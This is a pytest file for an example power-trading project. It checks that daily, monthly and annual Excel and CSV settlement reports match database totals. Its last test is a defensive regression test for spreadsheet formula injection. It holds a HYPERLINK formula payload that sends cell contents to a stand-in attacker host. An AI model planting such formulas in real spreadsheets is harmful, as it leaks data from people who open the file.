"""report/: the XLSX and CSV files open, and their sums equal the database's."""

from __future__ import annotations

import csv
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import sqlalchemy as sa

from schedkit_examples.powertrade.domain import PowertradeRepository
from schedkit_examples.powertrade.domain.sql import SQLRepository
from schedkit_examples.powertrade.tasks.data.archive import DataArchiveTask
from schedkit_examples.powertrade.tasks.report.annual_report import AnnualReportTask
from schedkit_examples.powertrade.tasks.report.common import Column, Sheet, write_report
from schedkit_examples.powertrade.tasks.report.daily_report import DailyReportTask
from schedkit_examples.powertrade.tasks.report.monthly_report import MonthlyReportTask

from .conftest import AS_OF


async def db_totals(repo: PowertradeRepository, first: date, last: date) -> dict[str, Any]:
    """Volume, amount and customers settled in [first, last], straight from SQL (live
    and archived settlements)."""
    assert isinstance(repo, SQLRepository)
    live, archive = repo.tables["settlements"], repo.tables["settlements_archive"]
    both = sa.union_all(
        *(
            sa.select(t.c.customer_id, t.c.volume, t.c.amount).where(t.c.day.between(first, last))
            for t in (live, archive)
        )
    ).subquery()
    stmt = sa.select(
        sa.func.count(),
        sa.func.count(sa.distinct(both.c.customer_id)),
        sa.func.coalesce(sa.func.sum(both.c.volume), 0.0),
        sa.func.coalesce(sa.func.sum(both.c.amount), 0.0),
    )
    async with repo.engine.connect() as conn:
        rows, customers, volume, amount = (await conn.execute(stmt)).one()
    return {"rows": rows, "customers": customers, "volume": volume, "amount": amount}


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8-sig") as fh:
        return list(csv.DictReader(fh))


def summary_of(wb: Any) -> dict[str, Any]:
    return {row[0]: row[1] for row in wb["汇总"].iter_rows(values_only=True)}


def column_sum(ws: Any, header: str) -> float:
    rows = list(ws.iter_rows(values_only=True))
    index = rows[0].index(header)
    return float(sum(r[index] for r in rows[1:]))


def check_files(
    result: dict[str, Any], reports_dir: Path, kind: str, label: str, detail: str
) -> tuple[Any, list[dict[str, str]]]:
    assert result["success"] is True
    files = result["data"]["files"]
    assert files == [f"{kind}/report_{kind}_{label}.xlsx", f"{kind}/report_{kind}_{label}.csv"]
    xlsx, csv_path = (reports_dir / f for f in files)
    wb = openpyxl.load_workbook(xlsx, read_only=True)
    assert wb.sheetnames == ["汇总", "客户明细", detail]
    return wb, read_csv(csv_path)


#: Reports show MWh to 3 decimals and 元 to the cent: sums must agree to that precision.
MWH = 0.0005
YUAN = 0.005


def check_sums(wb: Any, rows: list[dict[str, str]], db: dict[str, Any], detail: str) -> None:
    summary = summary_of(wb)
    assert summary["结算记录数"] == db["rows"]
    assert summary["结算客户数"] == db["customers"]
    assert summary["结算电量(MWh)"] == pytest.approx(db["volume"], abs=MWH)
    assert summary["结算金额(元)"] == pytest.approx(db["amount"], abs=YUAN)
    for sheet in ("客户明细", detail):
        assert column_sum(wb[sheet], "结算电量(MWh)") == pytest.approx(db["volume"], abs=MWH)
        assert column_sum(wb[sheet], "结算金额(元)") == pytest.approx(db["amount"], abs=YUAN)
    assert len(rows) == db["customers"]
    assert sum(float(r["volume_mwh"]) for r in rows) == pytest.approx(db["volume"], abs=MWH)
    assert sum(float(r["amount_yuan"]) for r in rows) == pytest.approx(db["amount"], abs=YUAN)
    assert list(rows[0]) == [
        "customer_id",
        "customer_name",
        "region",
        "status",
        "days",
        "volume_mwh",
        "amount_yuan",
        "avg_price",
    ]


async def test_daily_report(
    sample_url: str, sample_repo: PowertradeRepository, make_task: Callable[..., Any], var_dir: Path
) -> None:
    result = await make_task(DailyReportTask, sample_url).execute(as_of=AS_OF)

    day = date(2025, 6, 29)  # the day before as_of
    db = await db_totals(sample_repo, day, day)
    assert db["rows"] > 50
    wb, rows = check_files(result, var_dir / "reports", "daily", "2025-06-29", "日明细")
    check_sums(wb, rows, db, "日明细")
    assert summary_of(wb)["期间"] == "2025-06-29 ~ 2025-06-29"
    assert result["statistics"]["amount_yuan"] == pytest.approx(db["amount"], abs=YUAN)
    first = rows[0]
    customer = await sample_repo.get_customer(first["customer_id"])
    assert customer is not None and first["customer_name"] == customer.name  # Chinese survives
    wb.close()


async def test_monthly_report_includes_archived_days(
    sample_url: str, sample_repo: PowertradeRepository, make_task: Callable[..., Any], var_dir: Path
) -> None:
    first, last = date(2025, 5, 1), date(2025, 5, 31)
    db = await db_totals(sample_repo, first, last)
    # Archive everything before 2025-05-30: May is then mostly in the archive table.
    await make_task(DataArchiveTask, sample_url).execute(as_of=AS_OF, older_than_months=1)
    assert await sample_repo.count_settlements_before(date(2025, 5, 30), archive=True) > 0

    result = await make_task(MonthlyReportTask, sample_url).execute(month="2025-05")

    assert await db_totals(sample_repo, first, last) == pytest.approx(db)
    wb, rows = check_files(result, var_dir / "reports", "monthly", "2025-05", "日明细")
    check_sums(wb, rows, db, "日明细")
    days = [r[0] for r in wb["日明细"].iter_rows(min_row=2, values_only=True)]
    assert days == [f"2025-05-{d:02d}" for d in range(1, 32)]
    wb.close()
    # The default month is the one before as_of.
    default = await make_task(MonthlyReportTask, sample_url).execute(as_of=AS_OF)
    assert default["data"]["period"]["label"] == "2025-05"


async def test_annual_report(
    sample_url: str, sample_repo: PowertradeRepository, make_task: Callable[..., Any], var_dir: Path
) -> None:
    result = await make_task(AnnualReportTask, sample_url).execute(year=2024)

    db = await db_totals(sample_repo, date(2024, 1, 1), date(2024, 12, 31))
    wb, rows = check_files(result, var_dir / "reports", "annual", "2024", "月明细")
    check_sums(wb, rows, db, "月明细")
    months = [r[0] for r in wb["月明细"].iter_rows(min_row=2, values_only=True)]
    assert months == ["2024-06", "2024-07", "2024-08", "2024-09", "2024-10", "2024-11", "2024-12"]
    wb.close()


async def test_report_parameters_are_validated(
    sample_url: str, make_task: Callable[..., Any]
) -> None:
    import pydantic

    with pytest.raises(pydantic.ValidationError):
        await make_task(MonthlyReportTask, sample_url).execute(month="2025-13")
    with pytest.raises(pydantic.ValidationError):
        await make_task(DailyReportTask, sample_url).execute(as_of=AS_OF, colour="red")


def test_a_customer_name_like_a_formula_stays_text_in_both_files(tmp_path: Path) -> None:
    """A security audit: a customer named "=HYPERLINK(...)" became a live formula in the
    XLSX (openpyxl takes text starting with "=" as one) and in the CSV, both downloaded
    by viewers from the console. Numbers, negative ones too, stay numbers."""
    name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    sheet = Sheet("客户", [Column("customer_name", "客户名称"), Column("amount", "金额")], [])
    sheet.rows.extend([[name, -12.5], ["@SUM(1)", 3.0], ["华东电力", 1.0]])
    files = write_report(tmp_path, "daily", "2026-12-01", [("日期", "2026-12-01")], [sheet])
    ws = openpyxl.load_workbook(tmp_path / files[0])["客户"]
    cells = [(c.value, c.data_type) for row in ws.iter_rows(min_row=2) for c in row]
    assert cells == [
        (name, "s"), (-12.5, "n"), ("@SUM(1)", "s"), (3, "n"), ("华东电力", "s"), (1, "n"),
    ]  # fmt: skip
    rows = read_csv(tmp_path / files[1])
    assert [r["customer_name"] for r in rows] == ["'" + name, "'@SUM(1)", "华东电力"]
    assert [r["amount"] for r in rows] == ["-12.5", "3.0", "1.0"]
